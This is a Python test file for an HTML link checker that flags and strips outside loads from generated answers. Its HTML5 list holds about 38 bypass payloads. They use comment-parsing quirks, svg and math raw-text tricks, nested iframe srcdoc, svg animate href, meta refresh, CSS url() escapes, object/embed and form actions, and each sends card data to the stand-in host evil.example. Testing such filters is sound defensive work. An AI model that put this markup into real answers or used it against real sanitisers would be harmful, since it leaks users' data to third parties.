"""The link check reads HTML as a browser builds it (issue 20 §5): markup that Python's
html.parser ends early or late, and loads that are not URL attributes. Each answer must be
flagged, and after `strip_links` the HTML5 trees of the rendered and the raw answer load nothing
outside the allow-list. One row per technique; the Chromium comparison is test_redteam_links.py.
"""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from docket.checks.html_loads import UNREADABLE, loads, refresh_url
from docket.checks.links import flagged_links, strip_links
from docket.checks.urls import destination, host_allowed

ALLOW = ["trusted.com"]
E = "https://evil.example/p.png?q=card"

# (name, answer) - every one makes a browser request evil.example
HTML5 = [
    ("comment ended by --!>", f"Refunds take 10 days.\n\n<!-- --!> <img src={E}> -->\n\nThanks."),
    ("comment <!-->", f"Refunds take 10 days. <!--><img src={E}> done"),
    ("comment <!--->", f"<!---><img src={E}>"),
    ("CDATA in HTML is a bogus comment", f"<![CDATA[ > <img src={E}> ]]>"),
    ("end tag with attributes", f"<style></style x><img src={E}>"),
    ("end tag with a slash", f"<style></style/><img src={E}>"),
    ("style in svg is not raw text", f"<svg>\n<style><img src={E}>"),
    ("title in svg is not raw text", f"<svg><title><img src={E}></title></svg>"),
    ("textarea in math", f"<math><mtext><textarea></textarea><img src={E}>"),
    ("noscript raw with scripting on", f'<noscript><p title="</noscript><img src={E}>"></noscript>'),
    ("iframe srcdoc", f'<iframe srcdoc="<img src={E}>"></iframe>'),
    ("iframe srcdoc entity-encoded", f'<iframe srcdoc="&lt;img src=&quot;{E}&quot;&gt;"></iframe>'),
    ("srcdoc in srcdoc", '<iframe srcdoc="<iframe srcdoc=&quot;<img src=' + E + '>&quot;></iframe>"></iframe>'),
    ("svg set href", f'<svg><a><set attributeName="href" to="{E}"/><text y="9">x</text></a></svg>'),
    ("svg animate values", f'<svg><a><animate attributeName="href" values="#a;{E}" dur="1s"/><text>x</text></a></svg>'),
    ("svg animate from", f'<svg><image><animate attributeName="href" from="{E}" to="#b"/></image></svg>'),
    ("meta refresh without url=", f'<meta http-equiv="refresh" content="0;{E}">'),
    ("meta refresh with a comma", f'<meta http-equiv="Refresh" content="1, {E}">'),
    ("meta refresh quoted url", f"<meta http-equiv=refresh content=\"0; URL='{E}'\">"),
    ("svg fill url()", f'<svg><rect width="9" height="9" fill="url({E}#g)"/></svg>'),
    ("svg mask url()", f'<svg><rect width="9" height="9" mask="url(\'{E}#m\')"/></svg>'),
    ("svg filter url()", f'<svg><g filter="url({E}#f)"><text>x</text></g></svg>'),
    ("css escape in url", '<p style="background:u\\72l(' + E + ')">x</p>'),
    ("image-set in style", f"<p style=\"background-image:image-set('{E}' 1x)\">x</p>"),
    ("-webkit-image-set", f"<p style=\"background:-webkit-image-set(url({E}) 1x)\">x</p>"),
    ("@import in <style>", f'<style>@import "{E}";</style>'),
    ("url() in <style>", f"<style>body{{background:url({E})}}</style>"),
    ("@font-face src", f"<style>@font-face{{font-family:x;src:url({E})}}</style>"),
    ("object data", f'<object data="{E}"></object>'),
    ("embed src", f'<embed src="{E}">'),
    ("param value", f'<object><param name="movie" value="{E}"></object>'),
    ("svg image xlink:href", f'<svg><image xlink:href="{E}"/></svg>'),
    ("svg feImage href", f'<svg><filter><feImage href="{E}"/></filter></svg>'),
    ("link imagesrcset", f'<link rel="preload" as="image" imagesrcset="{E} 1x">'),
    ("img in a table moved out", f"<table><tr><img src={E}><td>x</td></tr></table>"),
    ("attribute in a raw block", f'<div>\n\n<img\nsrc="{E}">\n\n</div>'),
    ("form action", f'<form action="{E}"><button>Go</button></form>'),
    ("button formaction", f'<button formaction="{E}">Go</button>'),
]
CLEAN = [
    ("allowed image", '<img src="https://cdn.trusted.com/a.png">'),
    ("same-page link", '<a href="#fees">fees</a>'),
    ("svg animate opacity", '<svg><rect width="9" height="9"><animate attributeName="opacity" values="0;1"/></rect></svg>'),
    ("meta refresh without a url", '<meta http-equiv="refresh" content="30">'),
    ("a comment that stays a comment", "<!-- <img src=https://evil.example/x> -->"),
    ("markdown with an allowed link", "See [docs](https://help.trusted.com/x)."),
]


def _leaks(answer: str) -> list[str]:
    md = MarkdownIt("commonmark", {"html": True})
    bad = []
    for source in (md.render(answer), answer):
        for ld in loads(source):
            d = destination(ld.url)
            if not d.relative and (not d.host or not host_allowed(d.host, ALLOW)):
                bad.append(ld.url)
    return bad


@pytest.mark.parametrize(("name", "answer"), HTML5, ids=[h[0] for h in HTML5])
def test_browser_loads_are_flagged_and_stripped(name: str, answer: str) -> None:
    assert _leaks(answer), f"{name}: the oracle sees no load (a broken row)"
    assert {lk.domain for lk in flagged_links(answer, ALLOW)} & {"evil.example", "javascript:"}, name
    stripped = strip_links(answer, ALLOW)
    assert flagged_links(stripped, ALLOW) == [] and _leaks(stripped) == [], f"{name}: {stripped!r}"


@pytest.mark.parametrize(("name", "answer"), CLEAN, ids=[c[0] for c in CLEAN])
def test_clean_html_passes(name: str, answer: str) -> None:
    assert flagged_links(answer, ALLOW) == [], name
    assert strip_links(answer, ALLOW) == answer


def test_text_around_a_stripped_block_stays() -> None:
    out = strip_links(f"Refunds take 10 days.\n\n<!-- --!> <img src={E}> -->\n\nThanks.", ALLOW)
    assert out.startswith("Refunds take 10 days.") and out.rstrip().endswith("Thanks.")


@pytest.mark.parametrize(("content", "url"), [
    ("0;https://a.example/", "https://a.example/"), ("0; url=https://a.example/", "https://a.example/"),
    ("5,URL = 'https://a.example/'", "https://a.example/"), ("  3.5 ;  x", "x"), ("30", None), ("", None),
])
def test_refresh_url_follows_the_html_standard(content: str, url: str | None) -> None:
    assert refresh_url(content) == url


def test_too_deep_srcdoc_and_nesting_fail_closed() -> None:
    doc = f"<img src={E}>"
    for _ in range(8):
        doc = '<iframe srcdoc="' + doc.replace("&", "&amp;").replace('"', "&quot;") + '"></iframe>'
    assert UNREADABLE in {ld.url for ld in loads(doc)}
    deep = "<div>" * 20_000
    assert UNREADABLE in {ld.url for ld in loads(deep)}
    assert flagged_links(deep, ALLOW)
